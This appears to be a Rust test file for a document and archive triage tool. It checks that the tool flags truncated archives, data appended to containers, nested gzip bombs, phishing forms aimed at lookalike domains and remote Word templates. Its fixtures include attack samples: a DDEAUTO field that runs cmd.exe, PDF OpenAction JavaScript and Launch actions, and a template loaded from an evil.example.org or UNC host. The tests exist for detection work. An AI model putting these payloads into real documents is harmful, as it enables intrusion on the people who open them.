//! What attackers do to a reader: hide beside containers, break them off, let documents fetch, imitate names. Nothing of
//! it may pass as read in full, and nobody may be told to do what was not called for.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test that cannot go on fails"
)]

mod common;

use common::{Bed, Ran};
use serde_json::Value;
use watchfire_testkit::archive::{Zip, gzip, gzip_bomb, tar};

/// The report on `bytes`.
#[track_caller]
fn triaged(name: &str, bytes: &[u8]) -> Value {
    let bed = Bed::new(name);
    bed.write(name, bytes);
    let ran = bed.run(&["triage", "-q", "-f", "json", name]);
    serde_json::from_str(&ran.stdout).unwrap_or_else(|error| panic!("{error}: {ran:?}"))
}

fn texts<'r>(report: &'r Value, list: &str, field: &str) -> Vec<&'r str> {
    let list = report[list].as_array().unwrap();
    list.iter().map(|entry| entry[field].as_str().unwrap()).collect()
}

fn values(report: &Value) -> Vec<&str> {
    let artifacts = report["artifacts"].as_array().unwrap().iter();
    let observables = artifacts.flat_map(|artifact| artifact["observables"].as_array().unwrap());
    observables
        .map(|observed| observed["value"].as_str().unwrap())
        .collect()
}

fn score(report: &Value) -> u64 {
    report["judgement"]["score"].as_u64().unwrap()
}

fn extracted(name: &str, bytes: &[u8]) -> (Ran, Value) {
    let bed = Bed::new(&format!("x{name}"));
    bed.write(name, bytes);
    let ran = bed.run(&["extract", "-q", "-f", "json", name]);
    let document = serde_json::from_str(&ran.stdout).unwrap();
    (ran, document)
}

#[test]
fn what_is_cut_off_or_damaged_is_never_read_in_full() {
    let text: Vec<u8> = (0..100_000_u32)
        .flat_map(|n| n.wrapping_mul(2_654_435_761).to_string().into_bytes())
        .collect();
    let whole_gzip = gzip(&text);
    let whole_zip = Zip::new().file("a.txt", &text).file("b.txt", &text).build();
    let mut wrong = whole_gzip.clone();
    let checksum = wrong.len() - 8;
    wrong[checksum] ^= 1;
    for (name, bytes, complete) in [
        ("whole.gz", whole_gzip.clone(), true),
        ("half.gz", whole_gzip[..whole_gzip.len() / 2].to_vec(), false),
        ("head.gz", whole_gzip[..60].to_vec(), false),
        ("wrong.gz", wrong, false),
        ("whole.zip", whole_zip.clone(), true),
        ("half.zip", whole_zip[..whole_zip.len() / 2].to_vec(), false),
        ("half.tar", tar(&[("a.txt", &text)])[..5000].to_vec(), false),
    ] {
        let report = triaged(name, &bytes);
        let coverage = &report["coverage"];
        assert_eq!(
            coverage["artifacts"] == coverage["artifacts_read"],
            complete,
            "{name}: {coverage}"
        );
        let advised = texts(&report, "recommendations", "text")
            .iter()
            .any(|text| text.contains("not read in full"));
        assert_eq!(advised, !complete, "{name}");
        let (ran, document) = extracted(name, &bytes);
        assert_eq!(document["sources"][0]["complete"], Value::Bool(complete), "{name}");
        assert_eq!(ran.stderr.contains("warning: "), !complete, "{name}: {}", ran.stderr);
    }
}

#[test]
fn what_stands_beside_a_container_is_read() {
    let hidden = b"MZ\x90 http://beside.example.com/payload ";
    let zip = Zip::new().file("a.txt", b"harmless").build();
    let tar = tar(&[("a.txt", b"harmless".as_slice())]);
    for (name, bytes) in [
        ("behind.zip", [zip.as_slice(), hidden].concat()),
        ("before.zip", [hidden.get(3..).unwrap(), zip.as_slice()].concat()),
        ("behind.tar", [tar.as_slice(), hidden].concat()),
        ("behind.gz", [gzip(b"harmless").as_slice(), hidden].concat()),
    ] {
        let report = triaged(name, &bytes);
        assert!(
            values(&report).contains(&"http://beside.example.com/payload"),
            "{name}: {report:#}"
        );
        let told = texts(&report, "diagnostics", "message")
            .iter()
            .any(|text| text.contains("bytes "));
        assert!(told, "{name}");
    }
}

#[test]
fn the_comment_of_a_container_is_read() {
    let zip = Zip::new()
        .encrypted("a.txt", b"see http://inner.evil.com/x", "hunter22")
        .comment("from http://comment.evil.com/x\r\npassword: hunter22");
    let report = triaged("a.zip", &zip.build());
    for url in ["http://comment.evil.com/x", "http://inner.evil.com/x"] {
        assert!(values(&report).contains(&url), "{url}");
    }
}

#[test]
fn bombs_inside_bombs_are_found() {
    let report = triaged("bomb.gz", &gzip(&gzip_bomb(64 << 20)));
    assert!(
        texts(&report, "findings", "rule").contains(&"archive-bomb"),
        "{report:#}"
    );
}

#[test]
fn harmless_pages_call_for_nothing_drastic() {
    let links = "<a href=\"https://youtu.be/abc\">youtube.com</a> <a href=\"https://accounts.google.com\">gmail.com</a> \
        <a href=\"https://microsoft.com/\">office.com</a>";
    let report = triaged("same.html", links.as_bytes());
    assert_eq!(
        (score(&report), texts(&report, "recommendations", "text")),
        (0, vec![]),
        "{report:#}"
    );

    let software = Zip::new()
        .file("README", b"read me")
        .file("bin/app.exe", b"MZ\x90\0")
        .file("lib/a.dll", b"MZ\x90\0");
    for (name, bytes) in [
        (
            "newsletter.html",
            b"<a href='https://clicks.example.net/1'>www.example.com</a>".to_vec(),
        ),
        ("software.zip", software.build()),
    ] {
        let report = triaged(name, &bytes);
        let advice = texts(&report, "recommendations", "text").join("; ");
        assert!(score(&report) < 40, "{name}");
        assert!(
            !["block", "isolate", "reset", "quarantine"]
                .iter()
                .any(|word| advice.contains(word)),
            "{name}: {advice}"
        );
    }
}

#[test]
fn a_form_that_sends_passwords_to_an_imitation_is_suspicious() {
    for (host, suspicious) in [
        ("login-micros0ft.com", true),
        ("paypal-secure.net", true),
        ("203.0.113.9", true),
        ("login.microsoftonline.com", false),
        ("www.paypal.com", false),
    ] {
        let page = format!(
            "<p>{}</p><form action=\"http://{host}/p.php\"><input type=password></form>",
            "words ".repeat(50)
        );
        let report = triaged("form.html", page.as_bytes());
        assert_eq!(score(&report) >= 40, suspicious, "{host}: {report:#}");
    }
    let page = "<a href=\"http://login-micros0ft.com/\">Sign in to login.microsoftonline.com</a>";
    assert!(score(&triaged("link.html", page.as_bytes())) >= 40);
}

const WORD: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const TYPES: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// A document of Word with this body and this template.
fn word(body: &str, template: Option<&str>) -> Vec<u8> {
    let package = format!(
        "<Relationships><Relationship Id=\"r1\" Type=\"{TYPES}/officeDocument\" Target=\"word/document.xml\"/></Relationships>"
    );
    let document = format!("<w:document xmlns:w=\"{WORD}\"><w:body>{body}</w:body></w:document>");
    let zip = Zip::new()
        .file(
            "[Content_Types].xml",
            b"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>",
        )
        .file("_rels/.rels", package.as_bytes())
        .file("word/document.xml", document.as_bytes());
    let Some(template) = template else { return zip.build() };
    let settings = format!(
        "<Relationships><Relationship Id=\"r1\" Type=\"{TYPES}/attachedTemplate\" Target=\"{template}\" TargetMode=\"External\"/></Relationships>"
    );
    zip.file("word/_rels/settings.xml.rels", settings.as_bytes()).build()
}

#[test]
fn a_template_from_elsewhere_is_suspicious_and_one_at_hand_is_not() {
    let text = "<w:p><w:r><w:t>hello</w:t></w:r></w:p>";
    for (template, remote) in [
        ("http://evil.example.org/t.dotm", true),
        ("\\\\203.0.113.9\\share\\t.dotm", true),
        ("file://203.0.113.9/share/t.dotm", true),
        ("file:///C:\\Users\\x\\Normal.dotm", false),
    ] {
        let report = triaged("template.docx", &word(text, Some(template)));
        assert_eq!(score(&report) >= 40, remote, "{template}: {report:#}");
        let techniques = report["findings"].to_string().contains("T1221");
        assert_eq!(techniques, remote, "{template}");
    }
}

#[test]
fn commands_of_fields_and_scripts_are_read() {
    let run = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
    let character = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
    let command = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe http://fields.example.org/d\"";
    for body in [
        format!("<w:p>{}{}{}</w:p>", character("begin"), run(command), character("end")),
        format!("<w:p>{}{}</w:p>", character("begin"), run(command)),
        format!("<w:p>{}</w:p>", run(command)),
        format!("<w:p><w:fldSimple w:instr='{command}'/></w:p>"),
    ] {
        let report = triaged("dde.docx", &word(&body, None));
        assert!(
            values(&report).contains(&"http://fields.example.org/d"),
            "{body}: {report:#}"
        );
        assert!(
            texts(&report, "findings", "rule").contains(&"document-active-content"),
            "{body}"
        );
        let why = &report["judgement"]["reasons"][0]["text"];
        assert!(why.as_str().unwrap().contains("cmd.exe"), "{why}");
    }
    let page = |action: &str, content: &str| {
        let length = content.len();
        format!(
            "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R{action}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n\
             3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R>>endobj\n4 0 obj<</Length {length}>>stream\n{content}\nendstream endobj\n\
             trailer<</Root 1 0 R>>\n%%EOF\n"
        )
    };
    for (action, content) in [
        (
            "/OpenAction<</S/JavaScript/JS(app.launchURL\\(\"http://pdf.example.org/x\"\\);)>>",
            "",
        ),
        (
            "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(var u=\"http://pdf.example.org/x\";)>>]>>>>",
            "",
        ),
        (
            "/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c start http://pdf.example.org/x)>>>>",
            "",
        ),
        ("", "BT (http://pdf.example.org/x) Tj ET"),
    ] {
        let report = triaged("script.pdf", page(action, content).as_bytes());
        assert!(
            values(&report).contains(&"http://pdf.example.org/x"),
            "{action}{content}: {report:#}"
        );
    }
}

#[test]
fn settings_that_no_command_would_take_are_named() {
    let bed = Bed::new("settings");
    bed.write("c.toml", "format=\"xml\"\n");
    let ran = bed.run(&["--config", "c.toml", "config", "doctor"]);
    assert!(
        !ran.stdout.contains("make sense") && ran.stdout.contains("c.toml:1: unknown format 'xml'"),
        "{ran:?}"
    );
    let patterns: String = (0..300).map(|n| format!("t{n}=\\w{{50}}[a-z]{{50}}x{n}\n")).collect();
    bed.write("patterns", patterns);
    bed.write("a.txt", "x");
    let ran = bed.run(&["extract", "--patterns", "patterns", "a.txt"]);
    assert!(
        ran.stderr.contains("the patterns take more than 32 MB together"),
        "{ran:?}"
    );
    if cfg!(unix) {
        for flag in ["--config", "--patterns"] {
            let ran = bed.run(&["extract", flag, "/dev/zero", "a.txt"]);
            assert!(ran.stderr.contains("it is a device"), "{ran:?}");
        }
    }
}
